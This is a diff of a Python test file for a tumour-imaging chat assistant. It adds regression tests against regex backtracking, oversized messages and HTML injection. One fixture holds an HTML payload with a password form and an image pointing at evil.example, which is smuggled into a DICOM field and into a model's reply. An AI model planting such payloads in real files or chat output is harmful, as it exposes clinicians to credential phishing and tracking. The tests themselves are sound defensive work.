@@ -17,6 +17,7 @@ from tumor_ai.app.assistant import ADVICE_REFUSAL, HELP, NEEDS_SLICE, Conversati
 from tumor_ai.app.chat import respond
 from tumor_ai.app.tools import Toolbox, ToolResult
 from tumor_ai.core.imaging import read_image
+from tumor_ai.core.safe_text import markdown
 
 
 @pytest.fixture(scope="module")
@@ -169,7 +170,7 @@ def test_a_language_model_chooses_the_tools_through_inference_client(toolbox, wi
     brain = LanguageModel("scripted-model", base_url=scripted_server, token="not-a-token")
     answer = brain.answer(toolbox, with_slice, "Which model is surer here?")
     assert [call.name for call, _ in answer.calls] == ["compare_models"]
-    assert answer.reply == "Both models were asked; see the tool box for their answers."
+    assert answer.reply == markdown("Both models were asked; see the tool box for their answers.")
     first, second = ScriptedServer.requests
     assert first["path"] == "/v1/chat/completions" and first["body"]["model"] == "scripted-model"
     assert {tool["function"]["name"] for tool in first["body"]["tools"]} == {
@@ -193,3 +194,117 @@ def test_an_unreachable_language_model_falls_back_to_the_router(toolbox, with_sl
 def test_medical_advice_never_reaches_the_language_model(toolbox, with_slice, scripted_server):
     answer = LanguageModel("scripted-model", base_url=scripted_server).answer(toolbox, with_slice, "should I have surgery?")
     assert answer.reply == ADVICE_REFUSAL and ScriptedServer.requests == []
+
+
+def test_no_pattern_over_a_message_has_unbounded_repetition():
+    """Issue 41.1: ``.*`` between words backtracked polynomially on long text and held the interpreter."""
+    import re
+
+    from tumor_ai.app import assistant
+
+    patterns = {name: value.pattern for name, value in vars(assistant).items() if isinstance(value, re.Pattern)}
+    assert {"ADVICE", "GRAD_CAM", "COMPARE"} <= set(patterns)
+    for name, pattern in patterns.items():
+        assert not re.search(r"(?<!\\)[*+]|\{\d*,\}", pattern), f"{name} repeats without a bound: {pattern}"
+
+
+class CappedSpy:
+    """A compiled pattern that fails the test if it is ever handed more than the Assistant reads."""
+
+    def __init__(self, pattern, limit):
+        self.pattern, self.limit, self.seen = pattern, limit, []
+
+    def search(self, text):
+        self.seen.append(len(text))
+        assert len(text) <= self.limit, f"a pattern was matched against {len(text)} characters"
+        return self.pattern.search(text)
+
+
+def test_a_one_megabyte_message_is_refused_before_any_pattern_reads_it(toolbox, with_slice, scripted_server, monkeypatch):
+    from tumor_ai.app import assistant
+    from tumor_ai.core.wording import message_too_long
+
+    spies = {}
+    for name in ("ADVICE", "GRAD_CAM", "FIGURES", "EVIDENCE", "COMPARE", "BATCH", "HIDE"):
+        spies[name] = CappedSpy(getattr(assistant, name), assistant.MESSAGE_LIMIT)
+        monkeypatch.setattr(assistant, name, spies[name])
+    huge = "tumour " * 150_000  # ~1 MB of one repeated word, as the hostile trial sent
+    refusal = message_too_long(len(huge.strip()), assistant.MESSAGE_LIMIT)
+    history, _, conversation = respond(toolbox, Router(), {"text": huge}, [], with_slice)
+    assert history[-1]["content"] == refusal
+    shown = history[0]["content"]
+    assert len(shown) < 3 * assistant.MESSAGE_LIMIT and shown.endswith("…")  # the page gets the message cut
+    assert all(len(turn["content"]) <= assistant.MESSAGE_LIMIT for turn in conversation.turns)
+    answer = LanguageModel("scripted-model", base_url=scripted_server).answer(toolbox, with_slice, huge)
+    assert answer.reply.startswith("That message is") and ScriptedServer.requests == []
+    # A message at the limit is still routed, by the bounded patterns, to what it asks.
+    near = ("which model is surer " * 200)[: assistant.MESSAGE_LIMIT]
+    assert Router().answer(toolbox, with_slice, near).calls[0][0].name == "compare_models"
+    assert max(size for spy in spies.values() for size in spy.seen) <= assistant.MESSAGE_LIMIT
+
+
+FIELD = '<form action="https:evil.example"><input type=password name=q></form><img src="http://evil.example/p.png">'
+
+
+def _rendered_elements(text: str) -> set[str]:
+    """The HTML elements ``text`` forms when rendered as the chat renders Markdown (CommonMark, raw HTML on)."""
+    from html.parser import HTMLParser
+
+    from markdown_it import MarkdownIt
+
+    found: set[str] = set()
+
+    class Elements(HTMLParser):
+        def handle_starttag(self, tag, attrs):
+            found.add(tag)
+
+    Elements().feed(MarkdownIt("commonmark", {"html": True}).render(text))
+    return found
+
+
+def _hostile_mr_dicom(path) -> None:
+    import warnings
+
+    import numpy as np
+    from pydicom.dataset import FileDataset, FileMetaDataset
+    from pydicom.uid import ExplicitVRLittleEndian, MRImageStorage, generate_uid
+
+    meta = FileMetaDataset()
+    meta.MediaStorageSOPClassUID, meta.MediaStorageSOPInstanceUID = MRImageStorage, generate_uid()
+    meta.TransferSyntaxUID = ExplicitVRLittleEndian
+    dataset = FileDataset(str(path), {}, file_meta=meta, preamble=b"\0" * 128)
+    dataset.Modality, dataset.SOPClassUID = "MR", MRImageStorage
+    with warnings.catch_warnings():  # a hostile file does not keep to a CS value's length
+        warnings.simplefilter("ignore")
+        dataset.BodyPartExamined = FIELD
+    dataset.Rows = dataset.Columns = 64
+    dataset.SamplesPerPixel, dataset.PhotometricInterpretation = 1, "MONOCHROME2"
+    dataset.BitsAllocated = dataset.BitsStored = 16
+    dataset.HighBit, dataset.PixelRepresentation = 15, 0
+    dataset.PixelData = np.zeros((64, 64), np.uint16).tobytes()
+    dataset.save_as(path, enforce_file_format=True)
+
+
+def test_a_dicom_field_in_a_tool_s_refusal_reaches_the_chat_as_text(toolbox, tmp_path):
+    """Issue 41.4: a refusal quoting BodyPartExamined rendered a form and fetched an outside image in the chat."""
+    dicom = tmp_path / "field.dcm"
+    _hostile_mr_dicom(dicom)
+    history, _, _ = respond(toolbox, Router(), {"text": "", "files": [str(dicom)]}, [], None)
+    shown = [message["content"] for message in history if isinstance(message["content"], str)]
+    assert any("evil.example" in text.replace("\\", "") for text in shown)  # the refusal quotes the field ...
+    for text in shown:  # ... and no message forms an element beyond the chat's own emphasis
+        assert _rendered_elements(text) <= {"p", "br", "strong", "em", "ul", "li"}, text
+
+
+def test_a_language_model_s_words_are_shown_as_text(toolbox, with_slice):
+    from types import SimpleNamespace
+
+    class Echo:  # a chat model that repeats the file's field back, as one may
+        def chat_completion(self, *args, **kwargs):
+            message = SimpleNamespace(tool_calls=None, content=f"The body part is {FIELD} [see](http://evil.example)")
+            return SimpleNamespace(choices=[SimpleNamespace(message=message)])
+
+    brain = LanguageModel("scripted-model", base_url="http://127.0.0.1:9/v1")
+    brain.client = Echo()
+    reply = brain.answer(toolbox, with_slice, "what body part is it?").reply
+    assert _rendered_elements(reply) <= {"p"}, reply
